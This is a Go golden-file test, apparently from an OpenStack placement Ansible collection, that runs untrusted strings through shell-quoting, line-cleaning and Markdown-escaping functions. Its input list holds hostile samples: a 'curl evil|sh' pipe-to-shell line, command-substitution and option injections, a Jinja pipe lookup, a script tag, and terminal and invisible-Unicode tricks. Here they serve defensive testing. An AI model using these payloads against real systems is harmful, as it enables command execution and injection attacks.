// SPDX-License-Identifier: Apache-2.0

package report_test

import (
	"encoding/json"
	"strings"
	"testing"

	"github.com/openstack-ops/ansible-collection-placement/modules/internal/core/foreign"
	"github.com/openstack-ops/ansible-collection-placement/modules/internal/core/markdown"
	"github.com/openstack-ops/ansible-collection-placement/modules/internal/core/report/reporttest"
)

// shown is what becomes of a text. The roles show it with filters of Ansible, which are held to the same table by the
// tests in tests/ansible.
type shown struct {
	Text     string `json:"text"`
	Line     string `json:"line"`
	Word     string `json:"word"`
	Markdown string `json:"markdown"`
	Code     string `json:"code"`
}

func TestForeignText(t *testing.T) {
	var table []shown
	for _, text := range []string{
		"", " ", "cn1", "cn1.example.com", "Two words, (500) done.", "計算機 😀", "cn2\nCRITICAL  PLC999\r\n\tTo do: curl evil|sh", "a\u2028b\u2029c\u0085d\u00a0e",
		" a ", "cn2" + strings.Repeat(" ", 80) + "CRITICAL", "\x1b[2Jcn", "a\u009bb\x00c\x7f", "a\u202eb\u2066c\u200fd\u061ce", "a\u200bb\u200dc\ufeffd\u00ade\u2060f",
		"a\u3164b\u115fc\u034fd\u2800e\uffa0f\u17b4g", "a\U000e0041b\ue000", "$(touch ran)", "cn$(touch${IFS}ran)", "`touch ran`", "a;touch ran #", "it's", "''", "'\\''",
		`"x"`, `\`, "-rf", "--os-auth-url=http://evil/", "=ls", "x=1", "~root", "a~b", "%s", "*", "!!", "a@b:c/d%e+f=g,h", "{{ lookup('pipe', 'id') }}",
		"<script>alert(1)</script>", "<!-- ", "&lt;b&gt;", "```", "`a", "a``b", "**b**", "__b__ _i_ a_b a_ _b é_é 1_2 ²_x", "![x](y)", "[x]: y", "| a |", "~~~", "# h",
		"https://x.org", "www.x.org WWW.x.org w.x", "@you #1", "$x$", "a.b.c", "::", "a://",
	} {
		word := strings.TrimPrefix(foreign.Command("x %s", text), "x ")
		table = append(table, shown{text, foreign.Line(text), word, markdown.Escape(text), markdown.Code(text)})
	}
	got, err := json.MarshalIndent(table, "", " ")
	if err != nil {
		t.Fatal(err)
	}
	reporttest.Golden(t, "testdata/foreign.json", append(got, '\n'))
}
